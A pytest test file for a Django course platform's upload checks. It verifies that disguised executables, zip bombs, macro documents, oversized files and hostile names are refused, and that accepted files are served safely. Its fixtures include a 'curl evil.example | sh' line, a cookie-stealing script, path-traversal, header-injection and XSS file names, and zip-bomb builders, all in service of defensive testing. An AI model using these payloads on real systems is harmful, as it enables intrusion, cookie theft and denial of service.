"""Hostile uploads through the submission form: programs under a document's name, zip bombs of every
ZIP-based type, macro documents, lying sizes and hostile names are refused with a form error and leave no
row and no file; what is accepted is only ever served as an attachment that no browser runs or sniffs.
The ordinary cases (a real PDF, DOCX word counts, the size and type settings) are in
tests/assessment/test_assessment_uploads.py."""

import io
import struct
import zipfile
from html import escape
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from tests.assessment.builders import MINIMAL_PDF, at, course, docx_bytes, enrolment_for, submit_file

from microcred.assessment.errors import UploadRefused
from microcred.assessment.file_checks import MAX_MEMBERS, checked_file, clean_file_name
from microcred.assessment.models import Submission

pytestmark = pytest.mark.django_db

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
PROGRAM = "The file is a program, not a {} document; it cannot be accepted."
BOMB = "The file unpacks to far more than its size; it cannot be accepted."
MACROS = "The file holds macros, which can run as a program; save it without macros and retry."


@pytest.fixture(autouse=True)
def _media_root(settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def enrolment(learner, time_machine):
    time_machine.move_to(at(2026, 3, 2), tick=False)
    return enrolment_for(learner, course("uol"))


def _archive(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb(main_part: str, *, megabytes: int = 120, extra: dict[str, bytes] | None = None) -> bytes:
    """The format's main part followed by a member of zeros that inflates to ``megabytes``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {main_part: b"<x/>", **(extra or {})}.items():
            archive.writestr(name, data)
        with archive.open("padding.xml", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(b"\0" * (1024 * 1024))
    return buffer.getvalue()


def _overlapping(copies: int) -> bytes:
    """One stored member listed ``copies`` times in the central directory, every entry pointing at the same
    bytes: the archive claims far more packed data than arrived (the overlapping-member zip bomb)."""
    single = _archive({"word/document.xml": bytes(range(256)) * 64}, compression=zipfile.ZIP_STORED)
    directory_start = single.index(b"PK\x01\x02")
    end_start = single.index(b"PK\x05\x06")
    entry = single[directory_start:end_start]
    entries = b"".join(
        entry.replace(b"word/document.xml", f"word/document.xm{number % 10}".encode()) if number else entry
        for number in range(copies)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), directory_start, 0)
    return single[:directory_start] + entries + end


def _posted(client_for, learner, enrolment, name: str, data: bytes):
    return client_for(learner).post(
        f"/my/enrolments/{enrolment.public_id}/assessment/submit/",
        {"file": SimpleUploadedFile(name, data, content_type="application/pdf")},
    )


def _refused_with(response, message: str, media_root: Path) -> None:
    assert response.status_code == 400
    assert escape(message) in response.content.decode()
    assert Submission.objects.count() == 0
    assert not any(path.is_file() for path in media_root.rglob("*"))


SIX_MEMBERS_OF_A_SELF_EXTRACTOR = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
HOSTILE_FILES = {
    "elf named pdf": ("report.pdf", ELF, PROGRAM.format("PDF")),
    "windows exe named pdf": (
        "report.pdf",
        b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",
        PROGRAM.format("PDF"),
    ),
    "mach-o named pdf": ("report.pdf", b"\xcf\xfa\xed\xfe" + b"\x07" * 28, PROGRAM.format("PDF")),
    "shell script named pdf": ("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", PROGRAM.format("PDF")),
    # A self-extracting archive: an exe with a real DOCX appended, which a ZIP reader opens from its end.
    "self-extracting exe named docx": (
        "report.docx",
        b"MZ\x90\x00" + b"\x00" * 508 + _archive(SIX_MEMBERS_OF_A_SELF_EXTRACTOR),
        PROGRAM.format("DOCX"),
    ),
    "elf named txt": (
        "notes.txt",
        ELF,
        "The file is named .txt but is not UTF-8 text; save it as UTF-8 and retry.",
    ),
    "docx zip bomb": ("report.docx", _bomb("word/document.xml"), BOMB),
    "xlsx zip bomb": ("data.xlsx", _bomb("xl/workbook.xml"), BOMB),
    "odt zip bomb": ("report.odt", _bomb("mimetype", extra={"content.xml": b"<office/>"}), BOMB),
    "too many members": (
        "report.docx",
        _archive({"word/document.xml": b"<w/>", **{f"m/{n}": b"" for n in range(MAX_MEMBERS + 1)}}),
        BOMB,
    ),
    "overlapping members": ("report.docx", _overlapping(40), BOMB),
    "docx with a vba project": (
        "report.docx",
        _archive({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        MACROS,
    ),
    "odt with basic macros": (
        "report.odt",
        _archive({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": b""}),
        MACROS,
    ),
}


@pytest.mark.parametrize(("name", "data", "message"), HOSTILE_FILES.values(), ids=list(HOSTILE_FILES))
def test_a_hostile_upload_is_refused_with_a_form_error_and_nothing_kept(
    client_for, learner, enrolment, settings, name: str, data: bytes, message: str
) -> None:
    response = _posted(client_for, learner, enrolment, name, data)

    _refused_with(response, message, Path(settings.MEDIA_ROOT))


def test_the_zip_bombs_are_small_on_the_wire() -> None:
    sizes = {label: len(data) for label, (_, data, message) in HOSTILE_FILES.items() if message == BOMB}

    assert all(size < 1024 * 1024 for size in sizes.values()), sizes


def test_a_script_is_still_plain_text_when_named_txt(enrolment) -> None:
    submission = submit_file(enrolment, "analysis.txt", b"#!/usr/bin/env python3\nprint('soil')\n")

    assert (submission.file_type, submission.word_count) == ("txt", 3)


def test_a_csv_whose_first_column_starts_like_a_program_is_still_data(enrolment) -> None:
    submission = submit_file(enrolment, "sites.csv", b"MZ_site,yield\nMZ01,4.2\n")

    assert submission.file_type == "csv"


def test_the_size_limit_is_met_by_the_bytes_not_by_the_declared_size(settings) -> None:
    settings.ASSESSMENT_UPLOAD_MAX_BYTES = 1024 * 1024
    data = MINIMAL_PDF + b"0" * (2 * 1024 * 1024)

    with pytest.raises(UploadRefused) as refused:
        checked_file(io.BytesIO(data), name="report.pdf", size=10)

    assert refused.value.message == "The file is 2.0 MB; the limit is 1.0 MB."


def test_a_declared_size_over_the_limit_is_refused_too(settings) -> None:
    settings.ASSESSMENT_UPLOAD_MAX_BYTES = 1024 * 1024

    with pytest.raises(UploadRefused) as refused:
        checked_file(io.BytesIO(MINIMAL_PDF), name="report.pdf", size=5 * 1024 * 1024)

    assert refused.value.message == "The file is 5.0 MB; the limit is 1.0 MB."


def test_the_recorded_size_is_the_measured_one() -> None:
    checked = checked_file(io.BytesIO(MINIMAL_PDF), name="report.pdf", size=0)

    assert checked.size == len(MINIMAL_PDF)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\amira\\Desktop\\Essay final.pdf", "Essay_final.pdf"),
        (".pdf", "submission.pdf"),
        ("....pdf", "submission.pdf"),
        ("???.pdf", "submission.pdf"),
        ("", "submission"),
        ("report\u202efdp.exe.pdf", "reportfdp.exe.pdf"),
        ('evil"\r\nSet-Cookie: a=b.pdf', "evilSet-Cookie_ab.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img_srcx_onerroralert1.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("report." + "x" * 300, "report." + "x" * 60),
    ],
)
def test_names_are_reduced_to_a_safe_last_part(given: str, kept: str) -> None:
    assert clean_file_name(given) == kept


def _download(client_for, persona, submission):
    return client_for(persona).get(f"/assessment/submissions/{submission.public_id}/file/")


def test_html_in_a_text_file_is_served_as_a_text_attachment_never_as_a_page(
    client_for, learner, enrolment
) -> None:
    page = b"<html><script>document.location='https://evil.example/'+document.cookie</script></html>"
    submission = submit_file(enrolment, "notes.txt", page)

    response = _download(client_for, learner, submission)

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == page
    assert (
        response["Content-Type"],
        response["Content-Disposition"],
        response["X-Content-Type-Options"],
        response["Content-Security-Policy"],
        response["Cache-Control"],
    ) == (
        "text/plain; charset=utf-8",
        'attachment; filename="notes.txt"',
        "nosniff",
        "default-src 'none'; sandbox",
        "private, no-store",
    )


def test_a_name_outside_ascii_reaches_the_header_encoded(client_for, learner, enrolment) -> None:
    submission = submit_file(enrolment, "Résumé été.docx", docx_bytes(["Soil health matters."]))

    response = _download(client_for, learner, submission)

    assert (
        response["Content-Disposition"] == "attachment; filename*=utf-8''R%C3%A9sum%C3%A9_%C3%A9t%C3%A9.docx"
    )
    assert (
        response["Content-Type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def test_the_stored_file_has_no_name_a_server_could_run(enrolment, settings) -> None:
    submission = submit_file(enrolment, "shell.php.pdf", MINIMAL_PDF)

    stored = Path(submission.file.path)
    assert (submission.file_name, stored.suffix, len(stored.name)) == ("shell.php.pdf", "", 32)
    assert stored.parent == Path(settings.MEDIA_ROOT) / "assessment" / "submissions"


def test_media_files_are_not_served_at_any_url(client_for, learner, enrolment, settings) -> None:
    submission = submit_file(enrolment, "report.pdf", MINIMAL_PDF)
    relative = Path(submission.file.path).relative_to(Path(settings.MEDIA_ROOT)).as_posix()

    response = client_for(learner).get(f"{settings.MEDIA_URL}{relative}")

    assert response.status_code == 404
